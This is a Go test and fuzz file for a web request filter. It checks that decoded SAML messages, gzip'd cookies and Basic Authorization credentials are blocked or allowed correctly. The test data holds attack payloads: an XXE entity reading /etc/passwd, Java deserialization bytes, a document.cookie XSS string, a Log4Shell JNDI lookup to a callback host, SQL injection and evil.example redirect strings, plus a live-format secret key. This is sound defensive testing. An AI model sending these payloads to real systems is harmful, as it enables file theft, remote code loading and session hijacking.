package filter

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"net/url"
	"strings"
	"testing"
)

func deflateB64(s string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// TestSAMLDeflated: a SAML message deflated then Base64-encoded is read
// as the XML the service provider parses: an external entity in it
// blocks, an ordinary AuthnRequest passes, in the query (Redirect
// binding) and in a form (POST binding).
func TestSAMLDeflated(t *testing.T) {
	eng := mustEngine(t, Config{})
	xxe := `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&x;</saml:Issuer></samlp:Response>`
	ok := `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1b2" Version="2.0" IssueInstant="2026-12-08T10:00:00Z" AssertionConsumerServiceURL="https://app.example.com/sso/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://app.example.com</saml:Issuer></samlp:AuthnRequest>`
	for _, tc := range []struct {
		name, doc string
		block     bool
	}{
		{"SAMLResponse", xxe, true},
		{"SAMLRequest", xxe, true},
		{"SAMLRequest", ok, false},
		{"RelayState", xxe, false}, // not a SAML message: its Base64 is not inflated
	} {
		v := deflateB64(tc.doc)
		for _, r := range []struct{ what, q, body string }{
			{"query", "/sso/saml?" + tc.name + "=" + url.QueryEscape(v), ""},
			{"form", "/sso/saml/acs", tc.name + "=" + url.QueryEscape(v)},
		} {
			req := newReq("GET", "http://app.example.com"+r.q, "", "")
			if r.body != "" {
				req = newReq("POST", "http://app.example.com"+r.q, "application/x-www-form-urlencoded", r.body)
			}
			d, err := eng.Inspect(req)
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != tc.block {
				t.Errorf("%s %s (%.40s): blocked=%v, want %v: %v", r.what, tc.name, tc.doc, d.Blocked, tc.block, d.Matches)
			}
		}
	}
	// A bomb inflates to the bound and no further.
	bomb := deflateB64("<a>" + strings.Repeat("x", 10<<20) + "</a>")
	if doc, _ := inflateSAML(bomb); len(doc) > maxSAMLInflate {
		t.Errorf("inflated %d bytes, bound %d", len(doc), maxSAMLInflate)
	}
}

func FuzzInflateSAML(f *testing.F) {
	f.Add(deflateB64("<a>b</a>"))
	f.Add("fVJNb9swDP0rhu6OZbUdViNOkbUYFqDbjCbdYZdBkWlbqD5cUk62fz")
	f.Fuzz(func(t *testing.T, s string) {
		inflateSAML(s)
	})
}

func gzipB64(b []byte) string {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(b)
	zw.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// TestCompressedAndCredentialViews: a gzip'd Base64 value is judged as
// what it inflates to; a Basic Authorization header by its user name and
// password, reported without them.
func TestCompressedAndCredentialViews(t *testing.T) {
	eng := mustEngine(t, Config{})
	java := []byte("\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactor")
	for _, c := range []struct {
		cookie string
		block  bool
	}{
		{"state=" + gzipB64(java), true},
		{"state=" + gzipB64([]byte(`{"q":"<script>alert(document.cookie)</script>"}`)), true},
		{"state=" + gzipB64([]byte(`{"tab":"orders","page":2,"filters":["paid","shipped"]}`)), false},
	} {
		r := newReq("GET", "http://app.example.com/dashboard", "", "")
		r.Header.Set("Cookie", c.cookie)
		expectVerdict(t, eng, r, c.cookie, c.block)
	}
	for _, c := range []struct {
		cred  string
		block bool
	}{
		{"${jndi:ldap://p4q7m.oast.site/basic}:password", true},
		{"admin' OR '1'='1:x", true},
		{"sk_live_4eC39HqLyjWDarjtT1zdp7dc:", false},
		{"alice:correct horse battery staple", false},
	} {
		r := newReq("GET", "http://app.example.com/", "", "")
		r.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte(c.cred)))
		d, err := eng.Inspect(r)
		if err != nil {
			t.Fatal(err)
		}
		if d.Blocked != c.block {
			t.Errorf("Basic %q: blocked=%v, want %v: %v", c.cred, d.Blocked, c.block, d.Matches)
		}
		for _, m := range d.Matches {
			if strings.Contains(m.Fragment, "jndi") || strings.Contains(m.Fragment, "OR") {
				t.Errorf("Basic credentials in a fragment: %q", m.Fragment)
			}
		}
	}
}

// FuzzContextReaders runs this stop's small readers of untrusted text on
// any input: none may panic, and none may read past its bounds.
func FuzzContextReaders(f *testing.F) {
	for _, s := range []string{`"knee pain" AND (physio OR physiotherapy)`, `") OR ("1`, `id,(select a from b)`, `{"language":"bash","code":"x"}`,
		`{"filter":{"status":{"$in":["a"]}}}`, "/%5C%5Cevil.example/", "portal.example.com.evil.example", "H4sIAAAAAAAA", `"lang`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		booleanSearch(s)
		subquery(strings.ToLower(s))
		snippetDocument(s)
		dataFilterDocument(s)
		dataFilterPath(strings.ToLower(s))
		imitatesSite(strings.ToLower(s), "example.com")
		registrable(s)
		pathBackslashHost("/"+s, "app.example.com")
		gunzipBase64(s)
		staticSuffixParam(s)
		uploadScriptPath(strings.ToLower(s))
		fenceInfo(s)
		returnsToSite(s, "app.example.com")
		jwtForgery(s)
	})
}
